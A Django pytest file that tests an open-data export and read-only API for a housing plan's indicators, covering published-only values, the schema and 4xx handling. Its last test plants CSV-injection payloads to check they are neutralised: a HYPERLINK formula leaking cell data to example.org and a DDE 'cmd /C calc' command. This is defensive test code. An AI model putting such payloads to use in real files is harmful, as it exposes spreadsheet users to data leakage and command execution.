"""Open data files and the read-only API: published values only, documented schema."""

import csv
import io
import json
from decimal import Decimal as D

import pytest
from django.urls import reverse

from indicators.models import Indicator, YearResult
from indicators.opendata.files import FIELDNAMES

pytestmark = pytest.mark.django_db


def add_draft_result(value=D(987654)):
    indicator = Indicator.objects.get(label="Logements Louez solidaire captés dans l'année")
    YearResult.objects.create(indicator=indicator, year=2023, value=value, status="draft")
    return indicator


def test_csv_has_the_documented_columns_and_the_seed_figures(client, seed_plan):
    response = client.get(reverse("opendata:values_csv"))
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('ldaplan-valeurs.csv"')
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(rows[0]) == FIELDNAMES
    louez = [r for r in rows if r["indicateur"] == "Logements Louez solidaire captés dans l'année"]
    by_year = {r["annee"]: r for r in louez}
    assert (by_year["2022"]["resultat"], by_year["2022"]["objectif"]) == ("73", "")
    assert (by_year["2023"]["resultat"], by_year["2023"]["objectif"]) == ("", "75")
    assert by_year["2022"]["resultat_au"] == "2022-12-31"
    interviews = next(r for r in rows if r["resultat"] == "1910")
    assert interviews["ligne"] == "7"


def test_open_data_never_contains_unpublished_values(client, seed_plan):
    add_draft_result()
    for url in [reverse("opendata:values_csv"), reverse("opendata:values_json")]:
        assert "987654" not in client.get(url).content.decode()


def test_json_carries_its_schema(client, seed_plan):
    document = json.loads(client.get(reverse("opendata:values_json")).content)
    assert [c["colonne"] for c in document["schema"]] == FIELDNAMES
    assert any(v["resultat"] == "295" for v in document["valeurs"])


def test_open_data_page_documents_every_column(client, seed_plan):
    html = client.get(reverse("opendata:index")).content.decode()
    for name in FIELDNAMES:
        assert f"<code>{name}</code>" in html


def test_api_lists_axes_and_measures_paginated(client, seed_plan):
    axes = client.get("/api/axes").json()
    assert axes["count"] == 5
    assert [a["numero"] for a in axes["items"]] == [1, 2, 3, 4, 5]
    page = client.get("/api/mesures", {"limit": 5, "offset": 5}).json()
    assert page["count"] == 12
    assert [m["numero"] for m in page["items"]] == [6, 7, 8, 9, 10]


def test_api_filters_indicators_by_measure(client, seed_plan):
    page = client.get("/api/indicateurs", {"mesure": 3, "limit": 100}).json()
    assert {i["mesure"] for i in page["items"]} == {3}
    pensions = next(i for i in page["items"] if i["cible_plan"] == 17)
    assert pensions["nature"] == "cumulative"


def test_api_indicator_values_are_published_only(client, seed_plan):
    indicator = add_draft_result()
    detail = client.get(f"/api/indicateurs/{indicator.pk}").json()
    values = {v["annee"]: v for v in detail["valeurs"]}
    assert values[2022]["resultat"] == 73
    assert values[2023]["resultat"] is None
    assert values[2023]["objectif"] == 75


@pytest.mark.parametrize(
    "url",
    [
        "/api/indicateurs/999999",
        "/api/indicateurs/abc",
        "/api/mesures?axe=deux",
        "/api/axes?limit=-5",
        "/api/inconnu",
    ],
)
def test_api_refuses_bad_requests_with_a_4xx(client, seed_plan, url):
    assert 400 <= client.get(url).status_code < 500


def test_api_has_an_openapi_description(client, seed_plan):
    schema = client.get("/api/openapi.json").json()
    assert schema["info"]["title"].startswith("ldaplan")
    assert {"/api/axes", "/api/mesures", "/api/indicateurs"} <= set(schema["paths"])


def test_api_docs_load_nothing_from_another_host(client, seed_plan):
    html = client.get("/api/docs").content.decode()
    assert "cdn" not in html.lower()
    assert "/static/ninja/swagger-ui-bundle.js" in html


def test_csv_cells_a_spreadsheet_would_run_are_made_inert(client, seed_plan):
    """CSV injection: a published text that starts like a formula is never one in the file."""
    indicator = Indicator.objects.get(label="Logements Louez solidaire captés dans l'année")
    indicator.label = '=HYPERLINK("http://example.org/?"&A1;"voir")'
    indicator.save()
    YearResult.objects.filter(indicator=indicator, year=2022).update(
        source="@SUM(1+1)*cmd|' /C calc'!A0", comment="-2+3"
    )
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("opendata:values_csv")).text)))
    row = next(r for r in rows if r["indicateur_id"] == str(indicator.pk) and r["annee"] == "2022")
    assert row["indicateur"] == "'" + indicator.label
    assert row["source"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["commentaire"] == "'-2+3"
    # Figures stay figures; the JSON file carries the texts as they are.
    assert row["resultat"] == "73"
    values = json.loads(client.get(reverse("opendata:values_json")).text)["valeurs"]
    assert indicator.label in {value["indicateur"] for value in values}
